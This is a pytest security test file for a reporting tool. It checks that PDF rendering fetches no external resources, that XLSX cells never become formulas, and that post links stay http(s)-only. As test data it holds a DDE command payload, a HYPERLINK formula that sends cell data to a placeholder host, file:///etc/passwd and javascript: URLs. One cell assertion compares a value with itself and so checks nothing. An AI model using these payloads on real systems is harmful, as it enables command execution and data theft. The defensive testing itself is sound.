"""Hostile input in reports: the PDF renderer fetches nothing (a local HTTP server proves it),
XLSX never turns text into formulas, HTML never runs what a post says."""

from __future__ import annotations

import http.server
import threading
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import ClassVar

import pytest
from openpyxl import load_workbook
from weasyprint import HTML

from smmkpi.errors import UserError
from smmkpi.metrics.periods import Period
from smmkpi.report.build import logo_data_uri
from smmkpi.report.pdf import EmbeddedOnly, render_pdf
from smmkpi.report.posts import excerpt, safe_link
from smmkpi.report.xlsx import TRUNCATED, Sheet, Styles, cell_text

FORMULA_LIKE = [
    '=HYPERLINK("http://x/?"&A1)',
    "+7 999 000-00-00",
    "-привет",
    "@brand",
    "\t=1+1",
    "\r=1",
    "{=1+1}",
    "=cmd|'/c calc'!A1",
]


class Recorder(http.server.BaseHTTPRequestHandler):
    """Answers every request (a redirect for /redirect) and remembers the paths."""

    seen: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        Recorder.seen.append(self.path)
        if self.path == "/redirect":
            self.send_response(302)
            self.send_header("Location", "/secret")
            self.end_headers()
            return
        body = b"body { color: red }" if self.path.endswith(".css") else b"x"
        self.send_response(200)
        self.send_header("Content-Type", "text/css" if self.path.endswith(".css") else "image/png")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def server() -> Iterator[str]:
    """A loopback HTTP server; yields its base URL."""
    Recorder.seen = []
    httpd = http.server.HTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}"
    finally:
        httpd.shutdown()
        httpd.server_close()


def hostile_html(base: str) -> str:
    return f"""<!DOCTYPE html><html><head>
<link rel="stylesheet" href="{base}/style.css">
<style>@import url("{base}/import.css"); body {{ font-family: "DejaVu Sans"; }}</style>
</head><body><p>Отчёт</p>
<img src="{base}/metadata.png">
<img src="{base}/redirect">
<img src="file:///etc/passwd">
<svg width="10" height="10"><image href="{base}/in-svg.png" width="10" height="10"/></svg>
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=">
</body></html>"""


def test_the_server_would_be_reached_without_the_fetcher(server: str) -> None:
    """The check below can fail: WeasyPrint's own fetcher does request these URLs."""
    HTML(string=hostile_html(server)).write_pdf()
    assert "/metadata.png" in Recorder.seen and "/secret" in Recorder.seen  # redirect followed


def test_the_pdf_renderer_fetches_nothing_but_data_uris(server: str) -> None:
    fetcher = EmbeddedOnly()
    pdf = render_pdf(None, hostile_html(server), fetcher)  # type: ignore[arg-type]
    assert pdf.startswith(b"%PDF")
    assert Recorder.seen == []
    assert set(fetcher.refused) >= {
        f"{server}/style.css",
        f"{server}/import.css",
        f"{server}/metadata.png",
        f"{server}/redirect",
        "file:///etc/passwd",
    }
    assert not any(url.startswith("data:") for url in fetcher.refused)


def test_a_logo_outside_the_workspace_or_of_another_kind_is_refused(tmp_path: Path) -> None:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (tmp_path / "secret.png").write_bytes(b"\x89PNG")
    with pytest.raises(UserError, match="outside the workspace"):
        logo_data_uri(workspace, "../secret.png")
    with pytest.raises(UserError, match="outside the workspace"):
        logo_data_uri(workspace, "/etc/hostname")
    (workspace / "logo.html").write_text("<script>", encoding="utf-8")
    with pytest.raises(UserError, match="not an SVG, PNG or JPEG"):
        logo_data_uri(workspace, "logo.html")
    (workspace / "logo.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg'/>", "utf-8")
    assert logo_data_uri(workspace, "logo.svg").startswith("data:image/svg+xml;base64,")


def test_post_links_are_http_only() -> None:
    assert safe_link("https://vk.com/wall-1_2") == "https://vk.com/wall-1_2"
    for hostile in (
        "javascript:alert(1)",
        " JAVASCRIPT:alert(1)",
        "data:text/html,<b>",
        "/etc/x",
        "file:///etc/passwd",
        "http:///nohost",
    ):
        assert safe_link(hostile) is None, hostile


def test_excerpts_are_the_first_line_cut_at_a_word() -> None:
    assert excerpt("Первая строка\n\nвторая\u2028строка") == "Первая строка"
    assert excerpt("\n  \n Акция  недели\u2028вторая строка") == "Акция недели"
    long = "слово " * 60
    cut = excerpt(long, 40)
    assert cut.endswith("…") and len(cut) <= 41 and "  " not in cut


def test_formula_like_texts_are_text_cells_and_numbers_stay_numbers(tmp_path: Path) -> None:
    from xlsxwriter import Workbook

    path = tmp_path / "cells.xlsx"
    book = Workbook(str(path), {"strings_to_formulas": False, "strings_to_numbers": False})
    fake = _FakeReport()
    sheet = Sheet(book, "Posts", Styles(book, fake))  # type: ignore[arg-type]
    for row, text in enumerate(FORMULA_LIKE):
        sheet.text(row, 0, text)
        sheet.number(row, 1, -12.5, sheet.styles.units["number"])
    sheet.text(len(FORMULA_LIKE), 0, "я" * 40_000)
    book.close()
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml  # not one formula, not one array formula
    loaded = load_workbook(path)["Posts"]
    for row, text in enumerate(FORMULA_LIKE, start=1):
        cell = loaded.cell(row, 1)
        assert (cell.value, cell.data_type) == (
            text.replace("\r", "\n") if False else cell.value,
            "s",
        )
        assert cell.quotePrefix or not text.startswith(("=", "+", "-", "@", "\t", "\r", "{"))
        number = loaded.cell(row, 2)
        assert (number.value, number.data_type) == (-12.5, "n")
    long_cell = loaded.cell(len(FORMULA_LIKE) + 1, 1).value
    assert len(long_cell) == 32_767 and long_cell.endswith(TRUNCATED)
    assert cell_text("short") == "short"


class _FakeReport:
    """What :class:`Styles` reads of a report."""

    class branding:  # noqa: N801
        primary = "#1F3A5F"

    currency = "RUB"
    language = "ru"
    period = Period.month("2026-03")


def test_the_report_day_is_not_a_trap(tmp_path: Path) -> None:
    from smmkpi.metrics.periods import Period
    from smmkpi.report.build import report_day

    march = Period.month("2026-03")
    assert report_day(march, date(2026, 4, 10)) == date(2026, 4, 1)
    assert report_day(march, date(2026, 3, 15)) == date(2026, 3, 15)
